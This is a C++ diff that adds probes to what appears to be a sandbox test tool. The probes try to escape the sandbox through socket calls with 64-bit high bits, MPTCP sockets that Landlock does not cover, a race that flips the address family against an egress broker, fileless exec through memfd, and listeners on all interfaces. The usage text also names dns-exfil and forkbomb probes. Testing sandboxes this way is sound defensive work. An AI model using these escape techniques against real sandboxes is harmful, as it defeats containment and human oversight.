@@ -290,6 +290,157 @@ int DoVsockHighBits() {
   return Result(ok);
 }
 
+// socket(AF_UNIX | 1 << 32, ...) by raw syscall: the kernel reads the family as an int, so a
+// filter that compares all 64 bits lets it through. Connects it to PATH (a host socket).
+int DoUnixHighBits(const char* path) {
+  const uint64_t family = AF_UNIX | (uint64_t{1} << 32);
+  long fd = syscall(SYS_socket, family, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  if (!Check("socket AF_UNIX | 1 << 32", fd)) return kFailed;
+  sockaddr_un addr{};
+  addr.sun_family = AF_UNIX;
+  if (strlen(path) >= sizeof addr.sun_path) return kUsage;
+  strcpy(addr.sun_path, path);
+  int rc = connect(static_cast<int>(fd), reinterpret_cast<const sockaddr*>(&addr), sizeof addr);
+  bool ok = Check(Fmt("connect unix %s", path).c_str(), rc);
+  close(static_cast<int>(fd));
+  return Result(ok);
+}
+
+// socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP | 1 << 32) by raw syscall: an MPTCP socket, which
+// Landlock's TCP rules do not cover. Making it is the escape (without namespaces).
+int DoMptcpHighBits() {
+  const uint64_t protocol = 262 | (uint64_t{1} << 32);
+  long fd = syscall(SYS_socket, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, protocol);
+  bool ok = Check("socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP | 1 << 32)", fd);
+  if (fd >= 0) close(static_cast<int>(fd));
+  return Result(ok);
+}
+
+// The family-flip race against the egress broker: one thread flips the sockaddr's family
+// between AF_UNIX and AF_INET while this one connects with it to IP:PORT (a host listener),
+// at most TRIES times. A broker that continues a connect whose copy was not inet lets the
+// kernel read AF_INET. The socket is the one the sandbox lets it make that Landlock covers
+// least: MPTCP (high bits, then plain), else TCP. Succeeds when a connect succeeds.
+int DoFamilyRace(const char* ip, const char* port, const char* tries_arg) {
+  long fd = -1;
+  const char* kind = "";
+  uint64_t protocol = 0;
+  for (auto [p, name] :
+       {std::pair<uint64_t, const char*>{262 | (uint64_t{1} << 32), "MPTCP | 1 << 32"},
+        {262, "MPTCP"},
+        {0, "TCP"}}) {
+    fd = syscall(SYS_socket, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, p);
+    kind = name;
+    protocol = p;
+    if (fd >= 0) break;
+    fprintf(stderr, "probe: socket %s: %s\n", name, strerror(errno));
+  }
+  if (!Check(Fmt("socket %s", kind).c_str(), fd)) return kFailed;
+  alignas(sockaddr_in) static unsigned char buf[sizeof(sockaddr_in)];
+  sockaddr_in in{};
+  in.sin_family = AF_INET;
+  in.sin_port = htons(static_cast<uint16_t>(atoi(port)));
+  if (inet_pton(AF_INET, ip, &in.sin_addr) != 1) return kUsage;
+  memcpy(buf, &in, sizeof in);
+  std::atomic<bool> stop{false};
+  std::thread flipper([&] {
+    auto* family = reinterpret_cast<volatile sa_family_t*>(buf);
+    // Each family held about as long as the other, so the unsandboxed control (one read of
+    // the address per connect) sees AF_INET on about half its tries.
+    auto hold = [] {
+      for (int i = 0; i < 256; ++i) asm volatile("" ::: "memory");
+    };
+    while (!stop.load(std::memory_order_relaxed)) {
+      *family = AF_UNIX;
+      hold();
+      *family = AF_INET;
+      hold();
+    }
+  });
+  long tries = atol(tries_arg);
+  long connected = 0, attempts = 0;
+  int last = 0;
+  // A fresh socket per try: a failed MPTCP connect can leave its socket refusing the next.
+  for (; attempts < tries && connected == 0; ++attempts) {
+    if (attempts > 0) {
+      close(static_cast<int>(fd));
+      fd = syscall(SYS_socket, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, protocol);
+      if (fd < 0) break;
+    }
+    if (connect(static_cast<int>(fd), reinterpret_cast<const sockaddr*>(buf), sizeof in) == 0) {
+      ++connected;
+    } else {
+      last = errno;
+    }
+  }
+  stop = true;
+  flipper.join();
+  if (fd >= 0) close(static_cast<int>(fd));
+  fprintf(stderr, "probe: family race (%s socket): %ld tries, %ld connected, last errno %s\n", kind,
+          attempts, connected, last ? strerror(last) : "none");
+  return Result(connected > 0);
+}
+
+// memfd_create + execveat(fd, "", ..., AT_EMPTY_PATH): a copy of this probe, run from memory
+// (as `gander_probe exit0`). Succeeds when the copy ran and exited 0.
+int DoMemfdExec() {
+  int src = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
+  if (!Check("open /proc/self/exe", src)) return kFailed;
+  long fd = syscall(SYS_memfd_create, "payload", 0u);
+  if (!Check("memfd_create(0)", fd)) {
+    fd = syscall(SYS_memfd_create, "payload", 0x0010u /* MFD_EXEC */);
+    if (!Check("memfd_create(MFD_EXEC)", fd)) return kFailed;
+  }
+  char chunk[65536];
+  ssize_t n;
+  while ((n = read(src, chunk, sizeof chunk)) > 0) {
+    if (write(static_cast<int>(fd), chunk, static_cast<size_t>(n)) != n) return kFailed;
+  }
+  close(src);
+  pid_t pid = fork();
+  if (pid == 0) {
+    char name[] = "gander_probe";
+    char verb[] = "exit0";
+    char* argv[] = {name, verb, nullptr};
+    syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
+    fprintf(stderr, "probe: execveat(memfd, AT_EMPTY_PATH): %s\n", strerror(errno));
+    _exit(kFailed);
+  }
+  int status = 0;
+  if (pid < 0 || waitpid(pid, &status, 0) != pid) return kFailed;
+  bool ran = WIFEXITED(status) && WEXITSTATUS(status) == kSucceeded;
+  fprintf(stderr, "probe: memfd exec: %s\n", ran ? "ok (the copy ran)" : "did not run");
+  return Result(ran);
+}
+
+// listen() on an unbound TCP socket: the kernel autobinds it on 0.0.0.0 (all interfaces).
+// Succeeds when it listens; prints the port.
+int DoListenAutobind() {
+  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  if (!Check("socket AF_INET", fd)) return kFailed;
+  bool ok = Check("listen (autobind on 0.0.0.0)", listen(fd, 1));
+  sockaddr_in a{};
+  socklen_t len = sizeof a;
+  if (ok && getsockname(fd, reinterpret_cast<sockaddr*>(&a), &len) == 0) {
+    fprintf(stderr, "probe: listening on port %d\n", ntohs(a.sin_port));
+  }
+  close(fd);
+  return Result(ok);
+}
+
+// bind() to 0.0.0.0 (a non-loopback address), then listen. Succeeds when it listens.
+int DoBindAny() {
+  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  if (!Check("socket AF_INET", fd)) return kFailed;
+  sockaddr_in a{};
+  a.sin_family = AF_INET;
+  a.sin_addr.s_addr = htonl(INADDR_ANY);
+  bool ok = Check("bind 0.0.0.0:0", bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a)) &&
+            Check("listen", listen(fd, 1));
+  close(fd);
+  return Result(ok);
+}
+
 // A netlink route dump: succeeds when it shows a network interface other than lo (the host's).
 int DoNetlink() {
   int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
@@ -837,6 +988,8 @@ int Usage() {
           "  read FILE | list DIR | write FILE | exec PATH [ARGS] | fds\n"
           "  env NAME [VALUE]\n"
           "  tcp IP PORT | udp IP PORT | unix PATH | abstract NAME | packet | vsock-high-bits\n"
+          "  unix-high-bits PATH | mptcp-high-bits | family-race IP PORT TRIES | memfd-exec\n"
+          "  listen-autobind | bind-any\n"
           "  kill PID [SIG] | userns | setns NSFILE... | ptrace | process_vm | forkbomb N\n"
           "  mount DIR | umount DIR | chroot DIR | bpf | io_uring | keyctl | perf\n"
           "  open_by_handle FILE | tiocsti | x32 | int80\n"
@@ -867,6 +1020,13 @@ int main(int argc, char** argv) {
   if (cmd == "unix" && need(1)) return DoUnix(args[0]);
   if (cmd == "packet") return DoPacket();
   if (cmd == "vsock-high-bits") return DoVsockHighBits();
+  if (cmd == "unix-high-bits" && need(1)) return DoUnixHighBits(args[0]);
+  if (cmd == "mptcp-high-bits") return DoMptcpHighBits();
+  if (cmd == "family-race" && need(3)) return DoFamilyRace(args[0], args[1], args[2]);
+  if (cmd == "memfd-exec") return DoMemfdExec();
+  if (cmd == "exit0") return kSucceeded;
+  if (cmd == "listen-autobind") return DoListenAutobind();
+  if (cmd == "bind-any") return DoBindAny();
   if (cmd == "netlink") return DoNetlink();
   if (cmd == "dns-exfil") return DoDnsExfil(nargs > 0 ? args[0] : nullptr);
   if (cmd == "abstract" && need(1)) return DoAbstract(args[0]);
